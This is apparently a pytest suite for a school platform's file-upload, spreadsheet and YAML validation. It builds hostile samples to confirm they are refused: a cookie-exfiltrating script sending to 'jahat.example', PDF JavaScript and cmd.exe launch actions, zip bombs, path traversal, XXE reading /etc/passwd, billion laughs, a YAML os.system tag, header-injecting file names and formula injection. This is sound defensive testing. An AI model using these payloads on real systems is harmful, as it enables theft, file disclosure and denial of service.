"""Hostile files: refused quickly and in little memory, and what is kept neither runs nor tells a place.

Source: requirements K10, K27, K29 and R11.
"""

import gc
import io
import re
import struct
import time
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from flask import Flask
from imbas_demo import papers
from openpyxl import Workbook, load_workbook
from PIL import ExifTags, Image
from sqlalchemy import select

from lms.contract.actors import Role
from lms.contract.errors import ImbasError, Invalid, TooLarge
from lms.contract.files import FILE_KINDS
from lms.contract.modules import Unit
from lms.evidence import api as evidence
from lms.evidence.file_validation import CheckedFile, check_own_file
from lms.evidence.models import Assignment, EvidenceFile, Submission, SubmissionVersion
from lms.people.directory import spreadsheet
from lms.people.directory.models import Person
from lms.people.directory.spreadsheet_parser import read_sheets
from lms.platform.application import platform
from lms.platform.db import db
from lms.platform.plugins import registry
from lms.platform.transaction import write
from lms.programmes.definition.errors import DefinitionFault
from lms.programmes.definition.yaml_document import load_yaml
from lms.testing.hostile import box, docx, object_streams, png_bomb, raw_pdf
from lms.testing.people import sign_in
from tests.inhabitants import Province

CORPUS = Path(__file__).parents[3] / "shared" / "corpus" / "hostile"
"""Beside the project; where it is missing only the files made here are tried."""
ALL = frozenset(FILE_KINDS)
MEGABYTE = 1024 * 1024


def check(name: str, body: bytes, limit: int = 20 * MEGABYTE) -> CheckedFile:
    return check_own_file(name, body, kinds=ALL, max_bytes=limit)


def office(**parts: bytes) -> bytes:
    """A Word document with more parts: ``word__vbaProject_bin`` is ``word/vbaProject.bin``."""
    return docx(more={name.replace("__", "/").replace("_", "."): body for name, body in parts.items()})


def long_directory() -> bytes:
    """A zip of four hundred thousand empty entries: 300 MB of Python objects when it is listed."""
    entry = (
        struct.pack("<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 0, 20, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0)
        + b"x"
    )
    directory = entry * 400_000
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 65535, 65535, len(directory), 0, 0)
    return directory + end


def zip_bomb() -> bytes:
    return office(word__huge_xml=b"\0" * (190 * MEGABYTE))


REMOTE = (
    b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="http://jahat.example/t.dotm" TargetMode="External"/></Relationships>'
)
SCRIPT = b"<script>fetch('//jahat.example/'+document.cookie)</script>"
REFUSED: dict[str, tuple[str, Callable[[], bytes]]] = {
    "HTML called a PDF": ("surat.pdf", lambda: b"<html>" + SCRIPT),
    "HTML with a PDF behind it": ("surat.pdf", lambda: SCRIPT * 30 + raw_pdf()),
    "PDF with JavaScript": ("surat.pdf", lambda: raw_pdf(b"<</S/JavaScript/JS(app.alert(1))>>")),
    "PDF with an escaped name": ("surat.pdf", lambda: raw_pdf(b"<</S/J#61vaScript/J#53(x)>>")),
    "PDF with JavaScript in an object stream": (
        "surat.pdf",
        lambda: object_streams(b"<</S/JavaScript/JS(x)>>"),
    ),
    "PDF that hides it behind a comment": (
        "surat.pdf",
        lambda: raw_pdf(b"%stream\n<</S/JavaScript/JS(x)>>\n%endstream"),
    ),
    "PDF with a launch action": ("surat.pdf", lambda: raw_pdf(b"<</S/Launch/F(cmd.exe)>>")),
    "PDF with a file inside": ("surat.pdf", lambda: raw_pdf(b"<</Type/Filespec/EF<</F 2 0 R>>>>")),
    "half a PDF": ("surat.pdf", lambda: raw_pdf()[:-12]),
    "SVG": ("gambar.svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>"),
    "SVG called a photo": (
        "gambar.jpg",
        lambda: b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>",
    ),
    "HTML": ("halaman.html", lambda: SCRIPT),
    "program": ("alat.exe", lambda: b"MZ" + bytes(2000)),
    "program called a table": ("daftar.csv", lambda: b"MZ\x90\x00\x03" + bytes(200)),
    "GIF called a photo": ("a.png", lambda: b"GIF89a" + bytes(40)),
    "900 megapixels": ("peta.png", lambda: png_bomb(30_000, 30_000)),
    "100 megapixels": ("peta.png", lambda: png_bomb(10_000, 10_000)),
    "half a photo": ("foto.jpg", lambda: papers.photo("Judul", "Baris")[:2000]),
    "macros": ("rpp.docx", lambda: office(word__vbaProject_bin=b"x")),
    "macros by another name": (
        "rpp.docx",
        lambda: _with_types(b'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"'),
    ),
    "template from elsewhere": ("rpp.docx", lambda: office(word____rels__settings_xml_rels=REMOTE)),
    "zip bomb": ("rpp.docx", zip_bomb),
    "zip with a long list": ("rpp.docx", long_directory),
    "zip that leaves its folder": ("rpp.docx", lambda: _stray("../../etc/cron.d/x")),
    "zip with an absolute path": ("rpp.docx", lambda: _stray("/etc/passwd")),
    "plain zip called a document": ("rpp.docx", lambda: _stray("a.txt", with_document=False)),
    "nothing": ("kosong.pdf", lambda: b""),
    "too large": ("besar.pdf", lambda: b"%PDF-" + bytes(21 * MEGABYTE)),
    "no ending": ("berkas", lambda: raw_pdf()),
    "two endings": ("surat.pdf.html", lambda: raw_pdf()),
    "ending after a null": ("surat.exe\x00.pdf", lambda: b"MZ" + bytes(100)),
}


def _with_types(more: bytes) -> bytes:
    whole = papers.letter("Judul", "Baris")
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(whole)) as old, zipfile.ZipFile(out, "w") as new:
        for entry in old.infolist():
            body = old.read(entry)
            new.writestr(entry.filename, body + more if entry.filename.startswith("[Content") else body)
    return out.getvalue()


def _stray(path: str, *, with_document: bool = True) -> bytes:
    whole = io.BytesIO(papers.letter("Judul", "Baris") if with_document else b"")
    with zipfile.ZipFile(whole, "a" if with_document else "w") as archive:
        archive.writestr(path, b"x")
    return whole.getvalue()


def quickly_refused(
    work: Callable[[], object], *, kinds: tuple[type[Exception], ...] = (ImbasError,)
) -> None:
    """Refused with a sentence, in a second of this thread's processor time and 200 MB."""
    gc.collect()  # what earlier tests left is not on this one's bill
    began = time.thread_time()
    with pytest.raises(kinds):
        work()
    assert time.thread_time() - began < 1.0
    tracemalloc.start()  # by itself: it slows everything down
    with pytest.raises(kinds):
        work()
    _now, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 200 * MEGABYTE


@pytest.mark.parametrize("what", REFUSED)
def test_a_hostile_file_is_refused(what: str) -> None:
    name, make = REFUSED[what]
    body = make()
    quickly_refused(lambda: check(name, body), kinds=(Invalid,))


@pytest.mark.parametrize(
    "path", sorted(CORPUS.iterdir()) if CORPUS.is_dir() else [], ids=lambda path: path.name
)
def test_the_corpus_is_refused_under_every_name(path: Path) -> None:
    for ending in (path.suffix, ".pdf", ".jpg", ".docx", ".xlsx", ".mp4"):
        quickly_refused(lambda ending=ending: check(f"x{ending}", path.read_bytes()), kinds=(Invalid,))


def test_good_files_are_kept() -> None:
    for name, body in (
        ("surat.pdf", papers.document("Judul", "Baris")),
        ("rapor.xlsx", papers.sheet("Judul", "Baris")),
        ("rpp.docx", papers.letter("Judul", "Baris")),
    ):
        assert check(name, body).body.read() == body
    # noise carries /JS here and there, as a compressed picture does
    noise = b"".join(b"/JS " + zlib.compress(bytes([number])) for number in range(250))
    assert check("pindai.pdf", raw_pdf(b"<</Length %d>>stream\n%b\nendstream" % (len(noise), noise)))


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\Guru\\rpp.pdf", "rpp.pdf"),
        ("foto\u202egpj.pdf", "fotogpj.pdf"),
        ("a\r\nSet-Cookie: x=1.pdf", "aSet-Cookie x=1.pdf"),
        ("nol\x00.pdf", "nol.pdf"),
        ("x" * 5000 + ".pdf", "x" * 116 + ".pdf"),
        ('"><script>.pdf', "script.pdf"),
    ],
)
def test_a_file_name_is_made_plain(typed: str, kept: str) -> None:
    assert check(typed, papers.document("Judul", "Baris")).name == kept


def _phone_photo() -> bytes:
    picture = Image.new("RGB", (400, 300), (200, 30, 30))
    notes = Image.Exif()
    notes[ExifTags.Base.Orientation] = 6
    notes[ExifTags.Base.Make] = "Ponsel"
    notes.get_ifd(ExifTags.IFD.Exif)[ExifTags.Base.DateTimeOriginal] = "2020:09:12 10:15:44"
    place = notes.get_ifd(ExifTags.IFD.GPSInfo)
    place[ExifTags.GPS.GPSLatitudeRef], place[ExifTags.GPS.GPSLatitude] = "S", (2.0, 53.0, 12.5)
    out = io.BytesIO()
    picture.save(out, "JPEG", exif=notes)
    return out.getvalue()


def test_a_photo_keeps_its_time_and_loses_its_place() -> None:
    sent = _phone_photo()
    assert b"GPS" in sent or Image.open(io.BytesIO(sent)).getexif().get_ifd(ExifTags.IFD.GPSInfo)
    kept = check("foto.jpg", sent)
    for body in (kept.body.read(), kept.preview):
        with Image.open(io.BytesIO(body)) as picture:
            assert not dict(picture.getexif())
            assert picture.height > picture.width  # upright
    assert kept.taken == "2020-09-12 10.15"


def test_a_video_loses_its_place_and_nothing_else() -> None:
    place = b"-02.8871+104.6512+012.000/"
    tag = box(b"\xa9xyz", struct.pack(">HH", len(place), 0x15C7) + place)
    video = box(b"ftyp", b"isom") + box(b"mdat", place) + box(b"moov", box(b"udta", tag))
    body = check("kelas.mp4", video).body
    body.seek(0)
    kept = body.read()
    assert len(kept) == len(video)
    assert kept.count(place) == 1  # pictures are not touched, whatever they look like
    assert kept.index(place) < kept.index(b"moov")


# -- lists and scripts that are read -----------------------------------------


def _book(sheet: bytes, head: bytes = b"") -> bytes:
    """A workbook whose only sheet is ``sheet``."""
    names = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    whole = b"<worksheet %b><sheetData>%b</sheetData></worksheet>" % (names, sheet)
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(papers.sheet("Nama", "Guru"))) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for entry in old.infolist():
            new.writestr(entry.filename, head + whole if "sheet1" in entry.filename else old.read(entry))
    return out.getvalue()


def _cell(text: bytes) -> bytes:
    return b'<row r="1"><c r="A1" t="inlineStr"><is><t>%b</t></is></c></row>' % text


_LAUGHS = b"".join(b'<!ENTITY l%d "%b">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
TABLES: dict[str, Callable[[], bytes]] = {
    "billion laughs": lambda: _book(_cell(b"&l9;"), b'<!DOCTYPE x [<!ENTITY l0 "ha">' + _LAUGHS + b"]>"),
    "external entity": lambda: _book(
        _cell(b"&e;"), b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    ),
    "DTD behind a comment": lambda: _book(
        _cell(b"&e;"),
        b"<!--" + b"x" * 9000 + b"-->" + b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    ),
    "DTD in UTF-16": lambda: _book(
        b"",
        ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e "x">]><a>&e;</a>').encode("utf-16"),
    ),
    "bomb": lambda: _book(b"<row/>" * 4_000_000),
    "rows without end": lambda: _book(b"<row/>" * 2_500_000),
    "cells without end": lambda: _book(b"<row>" + b"<c/>" * 3_600_000 + b"</row>"),
    "cells by another spelling": lambda: _book(b"<row>" + b"<c\tr='A1'/>" * 1_500_000 + b"</row>"),
    "cells far apart": lambda: _book(_cell(b"x") + b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
    "many wide sheets": lambda: _wide_sheets(20),
    "one long string in every cell": lambda: _one_string_everywhere(),
    "more than the directory says": lambda: _lying(_book(b"<row/>" * 2_500_000)),
    "sheet of another office without end": lambda: _open_document(
        '<t:table-row t:number-rows-repeated="1000000"><t:table-cell o:value-type="string" '
        't:number-columns-repeated="1000"><p>x</p></t:table-cell></t:table-row>'
    ),
    "text without end of another office": lambda: _open_document(
        '<t:table-row t:number-rows-repeated="2900"><t:table-cell o:value-type="string" '
        't:number-columns-repeated="100"><p>' + "x" * 30_000 + "</p></t:table-cell></t:table-row>"
    ),
    "not a table": lambda: b"\x00\x01\x02",
    "too many lines": lambda: b"a,b\n" * 5000,
}


def _wide_sheets(count: int) -> bytes:
    """Each within the bounds of one sheet, with one value."""
    book = Workbook()
    for number in range(count):
        book.create_sheet(f"S{number}").cell(9999, 100, "x")
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _one_string_everywhere() -> bytes:
    cells = b"".join(b'<row r="%d">%b</row>' % (n, b'<c t="s"><v>0</v></c>' * 100) for n in range(1, 2000))
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(_book(cells))) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            if not name.endswith("sharedStrings.xml"):
                new.writestr(name, old.read(name))
        new.writestr("xl/sharedStrings.xml", b"<sst><si><t>" + b"x" * 32_000 + b"</t></si></sst>")
    return out.getvalue()


def _lying(book: bytes) -> bytes:
    """The same archive, whose directory says that every part has 100 bytes."""
    told = bytearray(book)
    at = told.find(b"PK\x01\x02")
    while at >= 0:
        struct.pack_into("<L", told, at + 24, 100)
        at = told.find(b"PK\x01\x02", at + 4)
    return bytes(told)


def _open_document(rows: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        new.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        new.writestr(
            "content.xml",
            '<document-content xmlns:t="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
            'xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><o:body><o:spreadsheet>'
            f'<t:table t:name="A">{rows}</t:table></o:spreadsheet></o:body></document-content>',
        )
    return out.getvalue()


@pytest.mark.parametrize("what", TABLES)
def test_a_hostile_list_of_people_is_refused(what: str) -> None:
    body = TABLES[what]()
    quickly_refused(lambda: read_sheets(io.BytesIO(body)), kinds=(Invalid, TooLarge))


def test_a_list_of_more_than_four_megabytes_is_refused_unread() -> None:
    with pytest.raises(TooLarge):
        spreadsheet.read_sheets(b"a,b\n" * 1_200_000)


def test_a_list_with_an_entity_never_reads_a_file() -> None:
    try:
        rows = read_sheets(io.BytesIO(TABLES["external entity"]()))
    except Invalid:
        return
    assert "root:" not in str(rows)


SCRIPTS = {
    "object": "!!python/object/apply:os.system ['true']",
    "aliases": "a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]",
    "deep": "[" * 20_000,
    "long": "a: " + "x" * 300_000,
    "number of digits": "format: " + "9" * 100_000,
    "20,000 keys": "\n".join(f"k{number}: 1" for number in range(20_000)),
    "20,000 keys in one line": "{" + ",".join(f"k{number}: 1" for number in range(20_000)) + "}",
    "20,000 stages": "code: x\nstages:\n" + "- no: 1\n" * 20_000,
    "90,000 numbers": "a: [" + "1," * 90_000 + "]",
    "10,000 anchors": "\n".join(f"k{number}: &a{number} 1" for number in range(10_000)),
    "keys without values": "? a\n" * 45_000,
    "as many keys as are allowed": "\n".join(f"k{number}: 1" for number in range(1900)),
}


@pytest.mark.parametrize("what", SCRIPTS)
def test_a_hostile_programme_is_refused(what: str) -> None:
    quickly_refused(lambda: load_yaml(SCRIPTS[what]), kinds=(DefinitionFault,))


# -- what is sent back --------------------------------------------------------


@pytest.mark.modules
def test_kept_files_are_sent_as_downloads_that_run_nothing(site: Flask, province: Province) -> None:
    teacher = province.own.people[Role.TEACHER]
    due = db.session.scalars(
        select(Assignment).where(Assignment.unit == Unit.TEACHER).order_by(Assignment.id)
    ).first()
    assert due is not None
    deliverable = registry().deliverables[due.deliverable_key]
    browser = sign_in(site, teacher)
    target = browser.post(f"/bukti/buka-sendiri/{due.id}").headers["Location"]
    submission_id = int(re.findall(r"\d+", target)[-1])
    with write() as session:
        row = evidence.get_submission(session, submission_id)
        row.status = evidence.SubmissionStatus.DRAFT
        version = evidence.versions_of(session, submission_id)[0]
        version.submitted_at = None
        for kind in FILE_KINDS.values():
            session.add(
                EvidenceFile(
                    version_id=version.id,
                    name=f'x"<{kind.name}>.{kind.extensions[0]}',
                    kind=kind.name,
                    media_type=kind.media_type,
                    size=3,
                    sha256=kind.name,
                    storage_key=_stored(site, kind.extensions[0]),
                    preview_key="",
                    uploaded_by=teacher,
                    uploaded_at=platform(site).clock(),
                )
            )
    assert deliverable.media_types
    for file in db.session.scalars(select(EvidenceFile).where(EvidenceFile.version_id == version.id)).all():
        for path in (f"/bukti/berkas/{file.id}", f"/bukti/berkas/{file.id}/kecil"):
            answer = browser.get(path)
            assert answer.status_code == 200
            inline = not answer.headers.get("Content-Disposition", "").startswith("attachment")
            assert inline is (file.kind == "photo"), file.kind
            assert answer.headers["X-Content-Type-Options"] == "nosniff"
            policy = answer.headers["Content-Security-Policy"]
            assert "sandbox" in policy
            assert "default-src 'none'" in policy
            assert "frame-ancestors 'none'" in policy
            assert answer.headers["Content-Type"].split(";")[0] == FILE_KINDS[file.kind].media_type
            assert "no-cache" in answer.headers["Cache-Control"]  # asked for again after signing out
            again = browser.get(path, headers={"If-None-Match": answer.headers["ETag"]})
            assert again.status_code == 304
            answer.close()
        assert (
            site.test_client().get(path, headers={"If-None-Match": answer.headers["ETag"]}).status_code == 303
        )


def _stored(site: Flask, ending: str) -> str:
    return str(platform(site).storage.put(b"<b>", suffix=ending).key)


FORMULAS = ("=HYPERLINK(1)", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1")


@pytest.mark.modules
def test_what_looks_like_a_formula_is_text_in_an_export(site: Flask, province: Province) -> None:
    with write() as session:
        for person_id, text in zip(province.own.school.teachers, FORMULAS, strict=False):
            session.get_one(Person, person_id).full_name = text
    browser = sign_in(site, province.own.people[Role.ADMIN])
    answer = browser.get(f"/ruang-kendali/{province.own.programme_id}/rekap.xlsx")
    sheet = load_workbook(io.BytesIO(answer.get_data())).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert {cell.value for cell in cells} & set(FORMULAS)
    assert not [cell for cell in cells if cell.data_type == "f"]


def test_the_grader_sees_when_a_photo_was_taken(site: Flask, province: Province) -> None:
    """The time is kept for the grader, in words; what others can open has no notes of the camera at all."""
    file = db.session.scalars(
        select(EvidenceFile)
        .join(SubmissionVersion, SubmissionVersion.id == EvidenceFile.version_id)
        .join(Submission, Submission.id == SubmissionVersion.submission_id)
        .where(Submission.school_id == province.own.school.id)
    ).first()
    assert file is not None
    submission_id = db.session.get_one(SubmissionVersion, file.version_id).submission_id
    with write() as session:
        session.get_one(Submission, submission_id).status = evidence.SubmissionStatus.DRAFT
        session.get_one(SubmissionVersion, file.version_id).submitted_at = None
        stored = evidence.store_file(check("foto.jpg", _phone_photo()))
        moment = platform(site).clock()
        evidence.add_file(session, submission_id=submission_id, stored=stored, actor_id=None, now=moment)
        session.get_one(Submission, submission_id).status = evidence.SubmissionStatus.SUBMITTED
        session.get_one(SubmissionVersion, file.version_id).submitted_at = moment
    page = (
        sign_in(site, province.own.people[Role.GRADER]).get(f"/nilai/{submission_id}").get_data(as_text=True)
    )
    assert "Difoto 2020-09-12 10.15 menurut jam kamera" in page
